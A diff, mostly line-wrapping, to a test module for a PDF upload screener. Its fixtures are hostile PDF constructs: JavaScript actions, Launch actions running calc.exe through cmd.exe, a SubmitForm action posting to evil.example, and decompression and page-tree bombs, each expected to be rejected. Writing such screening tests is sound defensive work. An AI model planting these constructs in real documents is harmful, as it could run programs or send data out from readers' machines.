@@ -10,7 +10,16 @@ import pikepdf
 from pazpaz.screening.errors import Reason
 from tests.support.files_case import MARK, PDF, Case, hostile
 from tests.support.files_images import encoded, exif, jpeg_with
-from tests.support.files_pdf import CONTENT, assemble, document, flate, in_object_stream, revised, stream, zeros
+from tests.support.files_pdf import (
+    CONTENT,
+    assemble,
+    document,
+    flate,
+    in_object_stream,
+    revised,
+    stream,
+    zeros,
+)
 
 _ACTIVE, _FILES, _COMPLEX = Reason.ACTIVE_CONTENT, Reason.EMBEDDED_FILE, Reason.TOO_COMPLEX
 _COSTLY, _BROKEN, _LOCKED = Reason.TOO_COSTLY, Reason.DOES_NOT_DECODE, Reason.ENCRYPTED
@@ -23,7 +32,9 @@ _ACTIONS = {
     "JavaScript as a string": b"<< /S (JavaScript) /JS (x) >>",
     "JavaScript by reference": b"<< /S 21 0 R /JS (x) >>",
     "JavaScript after a page turn": b"<< /S /GoTo /D [3 0 R /Fit] /Next " + _JS + b" >>",
-    "JavaScript in a list": b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> " + _JS + b"] >>",
+    "JavaScript in a list": b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> "
+    + _JS
+    + b"] >>",
     "a program": b"<< /S /Launch /F (calc.exe) >>",
     "a program for Windows": b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
     "a form sent off": b"<< /S /SubmitForm /F (http://evil.example) >>",
@@ -63,7 +74,8 @@ _JS_PLACES = {
         extra={10: b"<< /FT /Tx /T (a) /AA << /K " + _JS + b" >> >>"},
     ),
     "an outline": lambda: document(
-        catalogue=b"/Outlines << /First 10 0 R /Last 10 0 R >>", extra={10: b"<< /Title (a) /A " + _JS + b" >>"}
+        catalogue=b"/Outlines << /First 10 0 R /Last 10 0 R >>",
+        extra={10: b"<< /Title (a) /A " + _JS + b" >>"},
     ),
     "an annotation nobody refers to by type": lambda: document(
         page=b"/Annots [<< /Subtype /Widget /Rect [0 0 1 1] /MK << /A " + _JS + b" >> >>]"
@@ -112,7 +124,12 @@ def _encrypted(**options: Any) -> bytes:
 LOCKED = [
     hostile("PDF locked", PDF, lambda: _encrypted(owner="a", user="b"), _LOCKED),
     hostile("PDF locked for changes", PDF, lambda: _encrypted(owner="a", user=""), _LOCKED),
-    hostile("PDF locked by RC4", PDF, lambda: _encrypted(owner="a", user="b", R=3, aes=False, metadata=False), _LOCKED),
+    hostile(
+        "PDF locked by RC4",
+        PDF,
+        lambda: _encrypted(owner="a", user="b", R=3, aes=False, metadata=False),
+        _LOCKED,
+    ),
 ]
 
 
@@ -130,7 +147,10 @@ def _forms(count: int, draws: int, *, loop: bool) -> bytes:
 
 def _pages_shared(levels: int) -> bytes:
     """Every branch holds the next one twice: 2^levels pages of one."""
-    objects = {1: b"<< /Type /Catalog /Pages 10 0 R >>", 3: b"<< /Type /Page /MediaBox [0 0 9 9] /Parent 10 0 R >>"}
+    objects = {
+        1: b"<< /Type /Catalog /Pages 10 0 R >>",
+        3: b"<< /Type /Page /MediaBox [0 0 9 9] /Parent 10 0 R >>",
+    }
     for level in range(levels):
         target = 11 + level if level + 1 < levels else 3
         objects[10 + level] = b"<< /Type /Pages /Count 9 /Kids [%d 0 R %d 0 R] >>" % (target, target)
@@ -152,7 +172,9 @@ def _twice(levels: int) -> bytes:
     body = _packed(200)
     for _ in range(levels - 1):
         body = zlib.compress(body)
-    return document(page=b"/X 10 0 R", extra={10: stream(body, b"/Filter [" + b"/FlateDecode " * levels + b"]")})
+    return document(
+        page=b"/X 10 0 R", extra={10: stream(body, b"/Filter [" + b"/FlateDecode " * levels + b"]")}
+    )
 
 
 def _table(entries: bytes, table: bytes) -> bytes:
@@ -199,6 +221,7 @@ ENDLESS = [
     hostile("PDF of a million broken objects", PDF, lambda: b"%PDF-1.7\n" + b"1 0 obj\n<<" * 900_000, _BROKEN, _COSTLY, _COMPLEX),
     hostile("PDF cut in half", PDF, lambda: document()[:400]),
 ]  # fmt: skip
+
 
 def _photo(jpeg: bytes, how: bytes = b"/DCTDecode") -> bytes:
     entries = b"/Type /XObject /Subtype /Image /Width 96 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter "
